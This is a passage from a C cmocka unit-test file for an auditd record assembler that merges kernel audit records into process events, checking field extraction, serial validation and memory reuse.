        w += snprintf(want + w, sizeof(want) - (size_t)w, "%sarg%d", i ? " " : "", i);
    assert_field(ev, TRL_F_PROCESS_COMMAND_LINE, want);
    assert_string_equal(named(ev, "auditd.data.a63"), "arg63");
    assert_string_equal(named(ev, "auditd.data.a64"), "(absent)");
    assert_string_equal(named(ev, "auditd.data.proctitle"), "arg0 arg1 ");
    assert_field(ev, TRL_F_PROCESS_TITLE, "arg0 arg1");
    assert_field(ev, TRL_F_PROCESS_EXECUTABLE, "/bin/x");
    assert_field(ev, TRL_F_AUDITD_KEY, "exec");
    assert_string_equal(array(ev, TRL_F_AUDITD_RECORD_TYPES), "SYSCALL|EXECVE|PROCTITLE|EOE");
    assert_true(
        trl_starts_with(ev->original, ev->original_len, "type=SYSCALL msg=audit(10.000:7)"));
    trl_audit_assembler_destroy(a);
}

/* A record whose values are not slices of its original (set by another stage) is copied whole,
 * and an event of one record keeps that record's original. */
static void test_assembler_values_outside_the_original(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *out[2];
    struct trl_event *ev =
        record("type=SYSCALL msg=audit(20.000:9): syscall=2 pid=5 comm=\"cat\"", 0);
    trl_event_set_named(ev, "labels.site", 11, "lab", 3);
    trl_event_set(ev, TRL_F_HOST_NAME, "db01", 4);
    assert_int_equal(trl_audit_assembler_add(a, ev), TRL_OK);
    trl_arena_reset(in_arena);
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, true, out, 2), 1);
    assert_field(out[0], TRL_F_HOST_NAME, "db01");
    assert_string_equal(named(out[0], "labels.site"), "lab");
    assert_string_equal(named(out[0], "auditd.data.comm"), "cat");
    assert_field(out[0], TRL_F_PROCESS_NAME, "cat");
    assert_int_equal(out[0]->original_len,
                     strlen("type=SYSCALL msg=audit(20.000:9): syscall=2 pid=5 comm=\"cat\""));
    assert_int_equal(out[0]->original[out[0]->original_len], '\0');
    trl_audit_assembler_destroy(a);
}

/* A record stamped by hand: type and serial as the record parser sets them. */
static struct trl_event *stamped(const char *type, const char *serial)
{
    struct trl_event *ev = trl_event_create(in_arena, "x", 1, 0);
    trl_event_set_str(ev, TRL_F_AUDITD_RECORD_TYPE, type);
    if (serial)
        trl_event_set_str(ev, TRL_F_AUDITD_SEQUENCE, serial);
    return ev;
}

/* The serial must be a decimal number that fits 64 bits; the type any record type but a
 * user-space message's, by name or by number. */
static void test_assembler_wants_decimal_serials_and_kernel_record_types(void **state)
{
    (void)state;
    assert_true(trl_audit_assembler_wants(stamped("SYSCALL", "1")));
    assert_true(trl_audit_assembler_wants(stamped("SYSCALL", "1234567890123456789")));
    assert_true(trl_audit_assembler_wants(stamped("PATH", "18446744073709551615")));
    assert_false(trl_audit_assembler_wants(stamped("PATH", "18446744073709551616")));
    assert_false(trl_audit_assembler_wants(stamped("PATH", "123456789012345678901")));
    assert_false(trl_audit_assembler_wants(stamped("SYSCALL", "")));
    assert_false(trl_audit_assembler_wants(stamped("SYSCALL", "12a")));
    assert_false(trl_audit_assembler_wants(stamped("SYSCALL", "-1")));
    assert_false(trl_audit_assembler_wants(stamped("SYSCALL", " 1")));
    assert_false(trl_audit_assembler_wants(stamped("SYSCALL", NULL)));
    /* Every kernel record type the merge knows, and others it does not treat apart. */
    static const char *const kernel[] = {"EOE",     "PATH",     "EXECVE",        "SYSCALL",
                                         "CWD",     "SOCKADDR", "PROCTITLE",     "AVC",
                                         "syscall", "SYSCALLS", "UNKNOWN[1300]", "1327"};
    for (size_t i = 0; i < sizeof(kernel) / sizeof(kernel[0]); i++)
        assert_true(trl_audit_assembler_wants(stamped(kernel[i], "7")));
    static const char *const user[] = {"USER_AUTH",     "CRED_ACQ", "ADD_USER", "SERVICE_START",
                                       "UNKNOWN[1105]", "1100",     "2999"};
    for (size_t i = 0; i < sizeof(user) / sizeof(user[0]); i++)
        assert_false(trl_audit_assembler_wants(stamped(user[i], "7")));
    trl_arena_reset(in_arena);
}

/* Events one after another, of records small and large (beyond what is kept for reuse), each
 * taken before the next: the memory of a taken event serves the next ones, and every event has
 * its own values. */
static void test_assembler_reuses_memory_of_taken_events(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    static char big[20000];
    char line[24000], want[64];
    for (int i = 0; i < 60; i++) {
        size_t fill = (size_t)(i % 3 == 2 ? 12000 : i % 3 == 1 ? 1500 : 10);
        memset(big, 'a' + i % 26, fill);
        big[fill] = '\0';
        snprintf(line, sizeof(line),
                 "type=SYSCALL msg=audit(10.000:%d): arch=c000003e syscall=59 pid=%d "
                 "comm=\"c%d\" exe=\"/bin/%s\"",
                 i, 100 + i, i, big);
        add(a, line, 0);
        snprintf(line, sizeof(line), "type=CWD msg=audit(10.000:%d): cwd=\"/w%d\"", i, i);
        add(a, line, 0);
        snprintf(line, sizeof(line), "type=EOE msg=audit(10.000:%d):", i);
        add(a, line, 0);
        trl_arena_reset(in_arena);
        struct trl_event *out[2];
        assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 2), 1);
        snprintf(want, sizeof(want), "%d", 100 + i);
        assert_field(out[0], TRL_F_PROCESS_PID, want);
        snprintf(want, sizeof(want), "c%d", i);
        assert_string_equal(named(out[0], "auditd.data.comm"), want);
        snprintf(want, sizeof(want), "/w%d", i);
        assert_field(out[0], TRL_F_PROCESS_WORKING_DIRECTORY, want);
        size_t len;
        const char *exe = trl_event_get(out[0], TRL_F_PROCESS_EXECUTABLE, &len);
        assert_non_null(exe);
        assert_int_equal(len, 5 + fill);
        assert_int_equal(exe[5 + fill - 1], fill ? 'a' + i % 26 : '/');
        assert_string_equal(array(out[0], TRL_F_AUDITD_RECORD_TYPES), "SYSCALL|CWD|EOE");
    }
    struct trl_audit_assembler_stats st;
    trl_audit_assembler_get_stats(a, &st);
    assert_int_equal(st.events, 60);
    assert_int_equal(st.pending, 0);
    trl_audit_assembler_destroy(a);
}

/* What another stage derived on a record (its user, its category) is not taken over: the merged
 * event derives them anew from the records' data. What the stage added of its own (a label) is. */
static void test_assembler_rebuilds_what_records_derived(void **state)
{
    (void)state;
    struct trl_audit_assembler *a = trl_audit_assembler_create(NULL);
    struct trl_event *ev =
        record("type=SYSCALL msg=audit(30.000:4): arch=c000003e syscall=59 success=yes uid=0 "
               "pid=9 comm=\"id\" exe=\"/usr/bin/id\"",
               0);
    trl_event_set_str(ev, TRL_F_USER_NAME, "stale");
    trl_event_add(ev, TRL_F_EVENT_CATEGORY, "web", 3);
    trl_event_set_named(ev, "labels.zone", 11, "dmz", 3);
    assert_int_equal(trl_audit_assembler_add(a, ev), TRL_OK);
    add(a, "type=EOE msg=audit(30.000:4):", 0);
    trl_arena_reset(in_arena);
    struct trl_event *out[2];
    assert_int_equal(trl_audit_assembler_take(a, out_arena, 0, false, out, 2), 1);
    assert_null(trl_event_get(out[0], TRL_F_USER_NAME, &(size_t){0}));
    assert_string_equal(array(out[0], TRL_F_EVENT_CATEGORY), "process");
    assert_string_equal(named(out[0], "labels.zone"), "dmz");
    assert_field(out[0], TRL_F_USER_ID, "0");
    assert_field(out[0], TRL_F_PROCESS_NAME, "id");
    assert_field(out[0], TRL_F_AUDITD_SEQUENCE, "4");
    trl_audit_assembler_destroy(a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_assembler_web01_one_event_per_serial),
        cmocka_unit_test(test_assembler_web01_web_shell_exec),
        cmocka_unit_test(test_assembler_web01_curl_scan_and_exfil),
        cmocka_unit_test(test_assembler_eoe_completes_at_once),
        cmocka_unit_test(test_assembler_timeout_completes_event_without_eoe),
        cmocka_unit_test(test_assembler_quiet_input_completes_pending_events),
        cmocka_unit_test(test_assembler_later_serial_from_same_host_completes_after_settle),
        cmocka_unit_test(test_assembler_interleaved_events_and_hosts_stay_apart),
        cmocka_unit_test(test_assembler_bounds_pending_events),
        cmocka_unit_test(test_assembler_bounds_records_per_event),
        cmocka_unit_test(test_assembler_does_not_want_single_record_events),
        cmocka_unit_test(test_assembler_copies_records_out_of_their_arena),
        cmocka_unit_test(test_assembler_connect_to_raw_ip),
        cmocka_unit_test(test_assembler_accept_sockaddr_is_the_source),
        cmocka_unit_test(test_assembler_file_write_relative_path_and_created_file),
        cmocka_unit_test(test_assembler_script_exec_names_the_script),
        cmocka_unit_test(test_assembler_kernel_module_load),
        cmocka_unit_test(test_assembler_execve_split_over_records),
        cmocka_unit_test(test_assembler_syslog_records_keep_their_header),
        cmocka_unit_test(test_assembler_long_records_from_reset_arenas),
        cmocka_unit_test(test_assembler_values_outside_the_original),
        cmocka_unit_test(test_assembler_wants_decimal_serials_and_kernel_record_types),
        cmocka_unit_test(test_assembler_reuses_memory_of_taken_events),
        cmocka_unit_test(test_assembler_rebuilds_what_records_derived),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
